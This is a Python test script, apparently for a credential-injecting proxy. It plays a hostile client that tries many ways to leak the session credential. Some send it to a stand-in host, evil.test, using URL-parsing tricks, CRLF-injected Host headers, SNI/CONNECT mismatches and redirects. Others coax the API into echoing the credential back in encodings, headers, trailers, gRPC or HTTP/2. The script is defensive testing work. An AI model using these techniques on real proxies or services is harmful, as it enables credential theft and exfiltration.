"""A hostile program under `claviger run` that knows only its proxy (G5): tries to have the credential sent to somebody
else, or to get it back from the API. Prints one JSON object {technique: base64 of all that it received}; whether a
secret is in it is for the test to say, since the program does not know the secret."""
import base64, json, os, pathlib, socket, ssl, subprocess, sys, threading, urllib.parse

HERE = pathlib.Path(__file__).resolve().parent
NODE = HERE.parent / "peers/node/run"
PROXY = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
CREDENTIAL = base64.b64encode(f"{PROXY.username}:{PROXY.password}".encode()).decode()
BUNDLE = os.environ["SSL_CERT_FILE"]
API, EVIL = "api.acme.test", "evil.test"
LIMIT, PATIENCE = 1 << 16, 3
TECHNIQUES = {}
context = ssl.create_default_context(cafile=BUNDLE)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE


def technique(name, function, *arguments):
    assert name not in TECHNIQUES, name
    TECHNIQUES[name] = (function, arguments)


def drain(connection, got):
    connection.settimeout(PATIENCE)
    try:
        while len(got) < LIMIT and (piece := connection.recv(65536)):
            got += piece
    except OSError:
        pass
    return got


def head_of(connection):
    got = bytearray()
    connection.settimeout(20)
    while b"\r\n\r\n" not in got and (piece := connection.recv(4096)):
        got += piece
    return got


def to_proxy(data):
    """Bytes for the proxy itself; `AUTH` in them stands for the session's credential."""
    with socket.create_connection((PROXY.hostname, PROXY.port), timeout=20) as connection:
        connection.sendall(data.replace(b"AUTH", f"Proxy-Authorization: Basic {CREDENTIAL}".encode()))
        return bytes(drain(connection, bytearray()))


def through(target, data, sni=API):
    """CONNECT target, a TLS handshake for `sni`, then the bytes."""
    connection = socket.create_connection((PROXY.hostname, PROXY.port), timeout=20)
    try:
        connection.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nProxy-Authorization: Basic {CREDENTIAL}\r\n\r\n".encode(errors="surrogateescape"))
        got = head_of(connection)
        if b" 200 " not in got.split(b"\r\n")[0]:
            return bytes(got)
        connection = context.wrap_socket(connection, server_hostname=sni)
        connection.sendall(data)
        return bytes(drain(connection, got))
    except OSError as error:
        return f"{type(error).__name__}".encode()
    finally:
        connection.close()


def request(path="/reflect", *lines, host=API, method="GET", version="HTTP/1.1", body=b""):
    return "\r\n".join([f"{method} {path} {version}", f"Host: {host}", *lines, "Connection: close", "", ""]).encode(errors="surrogateescape") + body


def http2(path, *arguments, method="GET"):
    """What a client gets that offers HTTP/2 alone: fields, body and trailers."""
    done = subprocess.run([NODE, HERE / "clients/http2.mjs", method, f"https://{API}{path}", *arguments], capture_output=True, timeout=60)
    return done.stdout + done.stderr


def curl(*arguments):
    done = subprocess.run(["curl", "-sS", "-i", "-m", "20", *arguments], capture_output=True)
    return done.stdout + done.stderr


# -- the credential is to go to somebody else ---------------------------------------------------------------------------
URLS = [f"https://{API}@{EVIL}/", f"https://{API}:443@{EVIL}/", f"https://{API}%2f@{EVIL}/", f"https://{API}%00.{EVIL}/", f"https://{API}.{EVIL}/", f"https://{EVIL}/{API}", f"https://{EVIL}#@{API}/",
        f"https://{EVIL}?@{API}/", f"https://{EVIL}\\@{API}/", f"https://{EVIL}%23@{API}/", f"https://{EVIL}:443#{API}", f"https://{API}\\.{EVIL}/", f"https://{API};.{EVIL}/", f"https://{API},{EVIL}/",
        f"https:\\\\{EVIL}\\{API}", f"https:{EVIL}", f"https:///{EVIL}/", f"https://{EVIL}.{API}/", f"https://x{API}/", f"https://{API}x/", f"https://{API}.:443/", f"https://{API}..{EVIL}/", f"https://api。acme。test/",
        "https://ａpi.acme.test/", "https://API.ACME.TEST/", f"https://{API}:8443/", f"https://{API}:80/", f"https://{API}:0443/", "https://1.0.0.7/", "https://16777223/", "https://0x01000007/", "https://1.7/", "https://[::ffff:1.0.0.7]/",
        f"http://{API}/", f"http://{API}:443/", f"http://{EVIL}/", f"ftp://{API}/", f"https://{API}/..;/x", f"https://{API}//{EVIL}/"]
for number, url in enumerate(URLS):
    technique(f"url {number} {url}", curl, "-g", "--path-as-is", "-k", url)
    technique(f"absolute form {number} {url}", lambda u: to_proxy(f"GET {u} HTTP/1.1\r\nHost: {API}\r\nAUTH\r\nConnection: close\r\n\r\n".encode()), url)
for number, host in enumerate([EVIL, f"{API}, {EVIL}", f"{API}@{EVIL}", f"{EVIL}@{API}", f"{API}:8443", f"{API}.", f"x.{API}", "", f"{API}\r\nHost: {EVIL}", f"{API}\r\nX-Forwarded-Host: {EVIL}",
                               f"{API}\r\nForwarded: host={EVIL}", f"{API}\r\nX-Original-URL: https://{EVIL}/", f"{API}\r\nX-Rewrite-URL: /token"]):
    technique(f"host {number} {host!r}", lambda h: through(f"{API}:443", request(host=h)), host)
technique("name of the handshake", lambda: through(f"{API}:443", request(), sni=EVIL))
technique("CONNECT elsewhere with the name", lambda: through(f"{EVIL}:443", request(), sni=API))
technique("CONNECT elsewhere with the host", lambda: through(f"{EVIL}:443", request(host=API), sni=EVIL))
technique("absolute form inside", lambda: through(f"{API}:443", request(f"https://{EVIL}/x")))
technique("second request for another host", lambda: through(f"{API}:443", b"GET /reflect HTTP/1.1\r\nHost: api.acme.test\r\n\r\n" + request(host=EVIL)))
technique("CONNECT inside", lambda: through(f"{API}:443", request(f"{EVIL}:443", method="CONNECT")))
technique("the proxy through itself", lambda: through(f"127.0.0.1:{PROXY.port}", request()))
technique("plain bytes on the tunnel", lambda: to_proxy(f"CONNECT {API}:443 HTTP/1.1\r\nHost: {API}:443\r\nAUTH\r\n\r\n".encode() + request()))
technique("another port", lambda: through(f"{API}:8443", request(host=f"{API}:8443")))
technique("a name that changes its address", lambda: b"".join(through("flip.acme.test:443", request(host="flip.acme.test"), sni="flip.acme.test") for _ in range(12)))
technique("a host with another's certificate", lambda: through("stolen.acme.test:443", request(host="stolen.acme.test"), sni="stolen.acme.test"))
for code in (301, 302, 303, 307, 308):
    technique(f"redirect {code}", curl, "-L", f"https://{API}/redirect?code={code}&to=https://{EVIL}/caught")
    technique(f"redirect {code} to http", curl, "-L", f"https://{API}/redirect?code={code}&to=http://{API}/caught")
technique("redirect with location-trusted", curl, "-L", "--location-trusted", "-H", "Authorization: x", f"https://{API}/redirect?code=302&to=https://{EVIL}/caught")
technique("a reset link in the page", curl, f"https://{API}/reflect?as=link&where=body")

# -- the API is to give it back -----------------------------------------------------------------------------------------
ENCODINGS = ["raw", "base64", "base64+1", "base64+2", "base64url", "base64url+1", "hex", "HEX", "percent", "percent-lower", "percent-twice", "percent-u", "json", "json-unicode", "js-hex", "octal", "html",
             "html-hex", "html-padded", "html-named", "basic", "mixed"]
for encoding in ENCODINGS:
    for where in ("body", "chunks", "bytes", "header", "location", "cookie", "trailer"):
        technique(f"echo {encoding} in {where}", lambda e, w: through(f"{API}:443", request(f"/reflect?as={e.replace('+', '%2B')}&where={w}", "TE: trailers")), encoding, where)
    for where in ("body", "chunks", "header", "trailer"):
        technique(f"echo {encoding} in {where} over h2", lambda e, w: http2(f"/reflect?as={e.replace('+', '%2B')}&where={w}"), encoding, where)
for coding in ("gzip", "deflate", "br", "zstd", "own", "gzip, gzip"):
    technique(f"echo coded {coding}", lambda c: through(f"{API}:443", request(f"/reflect?as=raw&where=coded&coding={urllib.parse.quote(c)}", f"Accept-Encoding: {c}")), coding)
for encoding in ("utf-16", "base64-lines"):  # which no field can hold
    for where in ("body", "chunks"):
        technique(f"echo {encoding} in {where}", lambda e, w: through(f"{API}:443", request(f"/reflect?as={e}&where={w}")), encoding, where)
        technique(f"echo {encoding} in {where} over h2", lambda e, w: http2(f"/reflect?as={e}&where={w}"), encoding, where)
for where in ("interim", "error", "cookie", "location"):
    technique(f"echo in {where} over h2", lambda w: http2(f"/reflect?as=raw&where={w}"), where)
technique("another authority over h2", lambda: http2("/reflect?as=raw&where=body", "--authority", EVIL))
technique("TRACE over h2", lambda: http2("/reflect?as=raw&where=body", method="TRACE"))
for where in ("reason", "interim", "error", "multipart"):
    technique(f"echo in {where}", lambda w: through(f"{API}:443", request(f"/reflect?as=raw&where={w}", "TE: trailers")), where)
# Scrubbing keeps gRPC's framing: a service that says gRPC, asked in gRPC or not, is no way around it.
for where in ("grpc", "grpc-proto", "grpc-web", "grpc-text"):
    for asked in ("*/*", "application/grpc"):
        technique(f"echo in {where} as {asked}", lambda w, a: through(f"{API}:443", request(f"/reflect?as=raw&where={w}", "TE: trailers", f"Content-Type: {a}")), where, asked)
for method in ("TRACE", "TRACK", "OPTIONS", "DEBUG", "PROPFIND"):
    technique(f"method {method}", lambda m: through(f"{API}:443", request("/reflect?as=raw&where=body", "Max-Forwards: 0", method=m)), method)
technique("range", lambda: through(f"{API}:443", request("/reflect?as=raw&where=body", "Range: bytes=0-9999")))
technique("http 1.0", lambda: through(f"{API}:443", request("/reflect?as=raw&where=body", version="HTTP/1.0")))
technique("http 2 by its preface", lambda: through(f"{API}:443", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"))
technique("websocket", lambda: through(f"{API}:443", "\r\n".join(["GET /reflect?as=raw&where=upgrade HTTP/1.1", f"Host: {API}", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "", ""]).encode()))
technique("upgrade to something", lambda: through(f"{API}:443", "\r\n".join(["GET /reflect?as=raw&where=upgrade HTTP/1.1", f"Host: {API}", "Connection: Upgrade", "Upgrade: raw", "", ""]).encode()))
for number, line in enumerate(["Connection: X-Key", "X-Key: mine", "X_Key: mine", "x-key : mine", "Authorization: Bearer mine", "Cookie: a=b", "X-HTTP-Method-Override: TRACE", "Expect: 100-continue", "Via: 1.1 x", "Proxy-Authorization: Basic eA==", "Accept: message/http",
                               "Upgrade-Insecure-Requests: 1", "X-Forwarded-For: 127.0.0.1", "Origin: https://evil.test", "Content-Type: message/http"]):
    technique(f"field {number} {line}", lambda l: through(f"{API}:443", request("/reflect?as=raw&where=body", l)), line)
technique("split answer", lambda: through(f"{API}:443", request("/reflect?as=raw&where=split")))
technique("line end in the path", lambda: through(f"{API}:443", request("/reflect%0d%0aX-Copy:%20{{key}}?as=raw&where=body")))
technique("template in the request", lambda: through(f"{API}:443", request("/reflect?q={{key}}&{key}&as=raw&where=body", "X-Copy: {{key}}{{api_key}}")))
technique("template to somebody else", lambda: to_proxy(f"GET http://{EVIL}/?q={{{{key}}}} HTTP/1.1\r\nHost: {EVIL}\r\nX-Key: {{{{key}}}}\r\nAUTH\r\nConnection: close\r\n\r\n".encode()))
technique("the placeholder sent elsewhere", lambda: to_proxy(f"GET http://{EVIL}/?k={os.environ.get('ACME_KEY', '')} HTTP/1.1\r\nHost: {EVIL}\r\nX-Key: {os.environ.get('ACME_KEY', '')}\r\nAUTH\r\nConnection: close\r\n\r\n".encode()))
technique("errors of the proxy", lambda: b"".join(to_proxy(data) for data in (b"GET / HTTP/1.1\r\n\r\n", b"\0", b"CONNECT x HTTP/1.1\r\nAUTH\r\n\r\n", b"GET http://claviger/ HTTP/1.1\r\nHost: claviger\r\nAUTH\r\n\r\n")))
technique("without the session's credential", lambda: to_proxy(f"CONNECT {API}:443 HTTP/1.1\r\nHost: {API}:443\r\n\r\n".encode()))


def main():
    results, lock, names = {}, threading.Lock(), list(TECHNIQUES)

    def worker():
        while True:
            with lock:
                if not names:
                    return
                name = names.pop(0)
            function, arguments = TECHNIQUES[name]
            try:
                got = function(*arguments)
            except Exception as error:
                got = f"{type(error).__name__}: {error}".encode()
            with lock:
                results[name] = base64.b64encode(got).decode()

    workers = [threading.Thread(target=worker) for _ in range(8)]
    for thread in workers:
        thread.start()
    for thread in workers:
        thread.join()
    print(json.dumps(results))


main()
